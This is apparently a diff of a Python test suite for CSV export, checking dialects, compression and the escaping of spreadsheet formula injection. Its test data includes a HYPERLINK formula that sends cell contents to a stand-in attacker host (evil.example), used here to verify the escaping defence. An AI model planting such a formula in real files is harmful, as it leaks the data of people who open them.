@@ -1,4 +1,4 @@
-"""CSV in every dialect, compressed or not, reads back as what the database holds."""
+"""CSV: every dialect and compression is read back; formulas are escaped."""
 
 import csv
 import gzip
@@ -20,9 +20,8 @@ from psycopg import sql
 from exports.formats.base import FileColumn
 from exports.formats.csv_format import Csv
 from exports.request.parser import parse_export
-from exports.spec import DELIMITERS, LINE_ENDS, Quoting
-from longshore.files.formulas import escaped as escaped_header
-from longshore.files.formulas import escaped_sql, separated
+from longshore.files.csv_dialect import DELIMITERS, LINE_ENDS, Quoting
+from longshore.files.formulas import escape_formula, escape_formula_sql, escape_inside_cells
 from longshore.resources.columns import ColumnType
 from tests.exports.nested import joined
 from tests.exports.samples import COLUMNS, NASTY, exported, stored, texts
@@ -51,7 +50,7 @@ DIALECTS = st.fixed_dictionaries(
 
 
 def read(content: bytes, dialect: dict[str, Any]) -> list[list[str]]:
-    """The rows of a file, by the standard library's reader."""
+    """Read the rows of a file with the standard library."""
     encoding = "utf-8-sig" if dialect.get("bom") else "utf-8"
     text = io.StringIO(content.decode(encoding), newline="")
     return list(csv.reader(text, delimiter=dialect.get("delimiter", ",")))
@@ -63,7 +62,7 @@ def read(content: bytes, dialect: dict[str, Any]) -> list[list[str]]:
     dialect=DIALECTS,
     compression=st.sampled_from(sorted(DECOMPRESSED)),
 )
-def test_every_dialect_reads_back(
+def test_every_dialect_is_read_back(
     records: list[tuple[str | None, str]], dialect: dict[str, Any], compression: str
 ) -> None:
     columns = {"text": 'the, "text"', "list": "=list"}
@@ -71,14 +70,14 @@ def test_every_dialect_reads_back(
     file = exported(organization, "csv", compression=compression, columns=columns, **dialect)
     content = DECOMPRESSED[compression](file)
 
-    def shown(text: str) -> str:
+    def cell(text: str) -> str:
         if not dialect.get("escape_formulas", True):
             return text
-        return separated(escaped(text).encode(), dialect.get("delimiter", ",")).decode()
+        return escape_inside_cells(escaped(text).encode(), dialect.get("delimiter", ",")).decode()
 
-    expected = [[shown(text or ""), shown(joined([member]))] for text, member in records]
+    expected = [[cell(text or ""), cell(joined([member]))] for text, member in records]
     if dialect.get("include_header", True):
-        expected.insert(0, [shown(header) for header in columns.values()])
+        expected.insert(0, [cell(header) for header in columns.values()])
     assert read(content, dialect) == expected
     assert content.startswith(b"\xef\xbb\xbf") == dialect.get("bom", False)
 
@@ -86,12 +85,12 @@ def test_every_dialect_reads_back(
     ends = re.findall(rb"\r?\n", unquoted)
     assert ends == [dialect.get("line_end", "\n").encode()] * len(expected)
     if dialect.get("quoting") == "all":
-        # Only a null is without quotes, and COPY leaves the header alone.
+        # All cells but nulls are quoted. The header is not.
         lines = unquoted.splitlines()[1 if dialect.get("include_header", True) else 0 :]
         assert set(lines) <= {dialect.get("delimiter", ",").encode()}
 
 
-def test_a_null_and_an_empty_text_differ() -> None:
+def test_a_null_differs_from_an_empty_text_in_every_quoting() -> None:
     organization = stored({"text": ""}, {"text": "a", "list": []})
     for quoting, expected in (("minimal", b'"",\na,""\n'), ("all", b'"",\n"a",""\n')):
         options = {"quoting": quoting, "include_header": False, "columns": ["text", "list"]}
@@ -113,14 +112,14 @@ def test_a_file_without_header_and_rows_is_empty() -> None:
     delimiter=st.sampled_from(DELIMITERS),
     quoting=st.sampled_from(list(Quoting)),
 )
-def test_the_header_is_as_copy_writes_it(
+def test_the_header_is_quoted_as_copy_quotes_it(
     headers: list[str], delimiter: str, quoting: Quoting
 ) -> None:
     options = {"escape_formulas": False, "delimiter": delimiter, "quoting": quoting}
     spec = parse_export({"resource": "sample", "csv_field_options": options})
     columns = [FileColumn(header, ColumnType.TEXT) for header in headers]
     query = sql.SQL("SELECT {} WHERE false").format(
-        sql.SQL(", ").join(sql.SQL("1 AS {}").format(sql.Identifier(each)) for each in headers)
+        sql.SQL(", ").join(sql.SQL("1 AS {}").format(sql.Identifier(header)) for header in headers)
     )
     forced = sql.SQL(", FORCE_QUOTE *" if quoting is Quoting.ALL else "")
     statement = sql.SQL("COPY ({}) TO STDOUT (FORMAT csv, HEADER, DELIMITER {}{})").format(
@@ -132,13 +131,13 @@ def test_the_header_is_as_copy_writes_it(
 
 @settings(quick, max_examples=300)
 @given(texts | st.text("+-=@ ()\t0123456789.,eE%", max_size=12))
-def test_what_runs_in_a_spreadsheet_is_escaped_the_same_everywhere(text: str) -> None:
-    statement = sql.SQL("SELECT {} FROM (SELECT {}::text AS cell) AS given")
-    query = statement.format(escaped_sql(sql.Identifier("cell")), sql.Literal(text))
+def test_sql_and_python_escape_the_same_formulas(text: str) -> None:
+    statement = sql.SQL("SELECT {} FROM (SELECT {}::text AS cell) AS cells")
+    query = statement.format(escape_formula_sql(sql.Identifier("cell")), sql.Literal(text))
     with connection.cursor() as cursor:
         cursor.execute(query.as_string(None).replace("%", "%%"), [])
-        [(shown,)] = cursor.fetchall()
-    assert shown == escaped_header(text) == escaped(text)
+        [(cell,)] = cursor.fetchall()
+    assert cell == escape_formula(text) == escaped(text)
 
 
 @pytest.mark.parametrize(
@@ -204,20 +203,20 @@ def test_a_formula_is_escaped(text: str) -> None:
         " a",
     ],
 )
-def test_a_number_and_a_phone_number_are_not(text: str) -> None:
+def test_a_number_or_phone_number_is_not_escaped(text: str) -> None:
     assert escaped(text) == text
 
 
-def test_only_text_is_escaped() -> None:
+def test_only_cells_of_text_are_escaped() -> None:
     values = {"text": "-1-1", "integer": -5, "float": -0.5, "list": ["=a"], "json": ["@b", 1]}
     [row] = read(exported(stored(values), "csv", include_header=False), {})
-    shown = {name: cell for name, cell in zip(COLUMNS, row, strict=True) if cell}
+    cells = {name: cell for name, cell in zip(COLUMNS, row, strict=True) if cell}
     expected = {"text": "'-1-1", "integer": "-5", "float": "-0.5", "list": "'=a"}
-    assert shown == expected | {"json": "'@b, 1"}
+    assert cells == expected | {"json": "'@b, 1"}
 
 
 @pytest.mark.parametrize(
-    ("pattern", "shown"),
+    ("pattern", "expected"),
     [
         ("""'=HYPERLINK("http://x/"&A2)'""", """'=HYPERLINK("http://x/"&A2)"""),
         ("'@'yyyy", "'@2024"),
@@ -228,16 +227,16 @@ def test_only_text_is_escaped() -> None:
         ("yyyy (MMM)", "2024 (Dec)"),
     ],
 )
-def test_the_text_of_a_datetime_pattern_is_escaped(pattern: str, shown: str) -> None:
+def test_a_datetime_that_looks_like_a_formula_is_escaped(pattern: str, expected: str) -> None:
     at = datetime(2024, 12, 25, 14, 30, tzinfo=UTC)
     options: dict[str, Any] = {"datetime_format": pattern, "timezone": "America/New_York"}
     content = exported(
         stored({"datetime": at}), "csv", columns=["datetime"], include_header=False, **options
     )
-    assert read(content, {}) == [[shown]]
+    assert read(content, {}) == [[expected]]
     sheet = exported(stored({"datetime": at}), "xlsx", columns=["datetime"], **options)
     [_, [cell]] = openpyxl.load_workbook(io.BytesIO(sheet)).active.values
-    assert cell == shown or isinstance(cell, datetime)
+    assert cell == expected or isinstance(cell, datetime)
 
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
@@ -256,7 +255,7 @@ PIECES = st.sampled_from(
     delimiter=st.sampled_from(DELIMITERS),
     quoting=st.sampled_from(list(Quoting)),
 )
-def test_no_text_runs_in_a_program_that_takes_another_separator(
+def test_no_cell_is_a_formula_when_read_with_another_delimiter(
     texts: list[str], delimiter: str, quoting: Quoting
 ) -> None:
     organization = stored(*({"text": text, "list": [text]} for text in texts))
@@ -264,19 +263,19 @@ def test_no_text_runs_in_a_program_that_takes_another_separator(
     options = {"delimiter": delimiter, "quoting": quoting, "columns": columns}
     content = exported(organization, "csv", **options).decode()
     for other in DELIMITERS:
-        # Quotes inside of a cell part nothing, as spreadsheets have it.
+        # Spreadsheets differ in whether quotes inside a cell protect line ends.
         for reader in (
             csv.reader(io.StringIO(content, newline=""), delimiter=other),
             (re.split("[\r\n]", content) for _ in range(1)),
         ):
-            cells = [part for row in reader for part in row]
+            cells = [cell for row in reader for cell in row]
             if other != delimiter:
-                cells += [part for cell in cells for part in cell.split(other)]
+                cells += [piece for cell in cells for piece in cell.split(other)]
                 assert not [cell for cell in cells if runs(cell, delimiter)]
 
 
 @pytest.mark.parametrize(
-    ("text", "shown"),
+    ("text", "expected"),
     [
         (f"a;{FORMULA}", f"a;'{FORMULA}"),
         ("a|  =1", "a|  '=1"),
@@ -292,16 +291,16 @@ def test_no_text_runs_in_a_program_that_takes_another_separator(
         ("a;=", "a;'="),
     ],
 )
-def test_a_formula_behind_another_separator_is_escaped(text: str, shown: str) -> None:
+def test_a_formula_after_another_separator_is_escaped(text: str, expected: str) -> None:
     [row] = read(exported(stored({"text": text}), "csv", columns=["text"]), {})[1:]
-    assert row == [shown]
+    assert row == [expected]
     plain = exported(stored({"text": text}), "csv", columns=["text"], escape_formulas=False)
     assert read(plain, {})[1:] == [[text]]
 
 
-def test_looking_for_formulas_takes_linear_time() -> None:
+def test_escaping_takes_linear_time_for_repeated_separators() -> None:
     for piece in (b";-", b"|-1", b";+1 ", b"\t@", b'";', b"; ", b";-$", b"\n-"):
         rows = piece * (2_000_000 // len(piece))
         began = time.monotonic()
-        separated(rows, ",")
-        assert time.monotonic() - began < 10
+        escape_inside_cells(rows, ",")
+        assert time.monotonic() - began < 30
